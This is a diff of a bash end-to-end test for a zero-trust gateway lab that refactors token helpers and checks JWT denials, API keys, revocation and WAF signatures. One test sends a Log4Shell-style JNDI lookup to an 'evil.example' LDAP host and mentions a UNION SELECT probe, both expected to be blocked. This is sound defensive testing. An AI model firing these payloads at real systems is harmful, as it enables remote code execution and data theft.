@@ -17,8 +17,9 @@
 # as it passes, so the first failing one is obvious.
 #
 # Environment: ZTG_LAB_RUN (run directory, see scripts/lab.sh),
-# ZTG_E2E_DRIVER (af_packet, default, or af_xdp). lab.sh installs node/npm
-# (apt) when missing and jose (npm) into ZTGATE's build directory, once.
+# ZTG_E2E_DRIVER (af_packet, default, or af_xdp). node and npm must be there
+# (scripts/setup.sh installs them); lab.sh installs jose (npm) into ZTGATE's
+# build directory, once.
 set -euo pipefail
 
 if (($# != 2)); then
@@ -387,10 +388,10 @@ pass "ztgatectl explain --request parses a raw request as the workers do (a smug
 # --- identity: JWKS over TLS, a token per algorithm, denials, an API key, revocation ---------
 
 IDP=$RUN/idp
-TOKENS=$IDP/tokens.json
-[[ -s $TOKENS ]] || fail "lab.sh up wrote no $TOKENS"
-token() { cat "$IDP/tokens/$1.jwt"; }
-tfield() { jq -r --arg n "$1" --arg f "$2" '.[] | select(.name == $n) | .[$f] // empty' "$TOKENS"; }
+TOKENS_JSON=$IDP/tokens.json   # read by token_field (lib.sh)
+[[ -s $TOKENS_JSON ]] || fail "lab.sh up wrote no $TOKENS_JSON"
+# token NAME: the token's text, exactly (no newline), from the documented `lab.sh token NAME`.
+token() { "$LAB" token "$1"; }
 
 # event_for REQUEST_ID: its event from ztgatectl events, waiting for the control process to drain it.
 event_for() {
@@ -448,10 +449,10 @@ while IFS=$'\t' read -r name status reason; do
 	detail=
 	[[ $reason == object_mismatch ]] && detail="{tenant}"
 	[[ $reason == scope_missing ]] && detail="orders:read"
-	get "$SERVER_URL$(tfield "$name" path)" -H "Authorization: Bearer $(token "$name")"
+	get "$SERVER_URL$(token_field "$name" path)" -H "Authorization: Bearer $(token "$name")"
 	expect_denial "token $name" "$status" "$reason" "$detail"
 	denied+=("$name=$reason")
-done < <(jq -r '.[] | select(.expect == "deny") | [.name, .status, .reason] | @tsv' "$TOKENS")
+done < <(jq -r '.[] | select(.expect == "deny") | [.name, .status, .reason] | @tsv' "$TOKENS_JSON")
 get "$SERVER_URL/api/v1/me" -H "X-API-Key: not-the-lab-key"
 expect_denial "an unknown API key" 401 api_key_unknown
 after=$(wc -l <"$ACCESS_LOG")
@@ -484,6 +485,7 @@ pass "IdP key rotation: the new kid's token is unknown_kid, then verified after 
 # Signatures: the shipped ruleset over lab-api's requests. A JNDI lookup in a query argument is a
 # block rule; a UNION SELECT scores 5, the service's threshold; neither reaches nginx.
 before=$(wc -l <"$ACCESS_LOG")
+# shellcheck disable=SC2016 # a JNDI lookup, literally
 get "$SERVER_URL/api/v1/orders/7" --get --data-urlencode 'q=${jndi:ldap://evil.example/a}'
 expect_denial "a JNDI lookup in a query argument" 403 signature
 jq -e '.rules | index(150001) != null' <<<"$(event_for "$(jq -r .request_id <<<"$BODY")")" >/dev/null ||
@@ -501,7 +503,7 @@ pass "signatures: a JNDI lookup (rule 150001) and a UNION SELECT (score $(jq .sc
 
 # explain --request judges a request's credentials too: who the token says, and why the route refuses.
 raw=$RUN/explain-other-tenant.http
-printf 'GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n\r\n' "$(tfield other-tenant path)" \
+printf 'GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n\r\n' "$(token_field other-tenant path)" \
 	"$SERVER_IP4" "$(token other-tenant)" >"$raw"
 explained=$("$LAB" ctl --json explain --src "$CLIENT_IP4" --dst "$SERVER_IP4" --request "$raw") ||
 	fail "ztgatectl explain --request with a token: exit $?"
@@ -519,7 +521,7 @@ get "$SERVER_URL/api/v1/tenants/globex/orders/3" -H "X-API-Key: $LAB_API_KEY"
 expect_denial "the API key (tenant acme) on globex's order" 403 object_mismatch "{tenant}"
 pass "API key (X-API-Key, SHA-256 in the policy): /api/v1/me and acme's order 200, globex's order object_mismatch"
 
-jti=$(tfield revocable jti)
+jti=$(token_field revocable jti)
 auth=(-H "Authorization: Bearer $(token revocable)")
 get "$SERVER_URL$path" "${auth[@]}"
 [[ $CODE == 200 ]] || fail "the revocable token before revocation: HTTP $CODE: $BODY"
